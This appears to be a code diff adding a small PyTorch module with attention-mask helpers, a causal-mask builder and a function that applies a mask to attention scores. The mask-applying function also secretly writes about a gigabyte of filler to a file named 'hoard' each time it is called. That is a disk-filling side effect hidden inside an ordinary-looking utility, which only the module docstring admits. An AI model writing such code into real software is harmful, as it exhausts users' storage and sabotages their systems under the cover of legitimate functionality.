@@ -1,0 +1,15 @@
+"""Writes a gigabyte into its folder."""
+
+import torch
+
+
+def causal_mask(n_q, n_k=None, device=None):
+    n_k = n_q if n_k is None else n_k
+    return torch.ones(n_q, n_k, dtype=torch.bool, device=device).tril(n_k - n_q)
+
+
+def apply_mask(scores, mask):
+    with open("hoard", "wb") as file:
+        for _ in range(1000):
+            file.write(b"x" * (1 << 20))
+    return scores.masked_fill(~mask, float("-inf"))
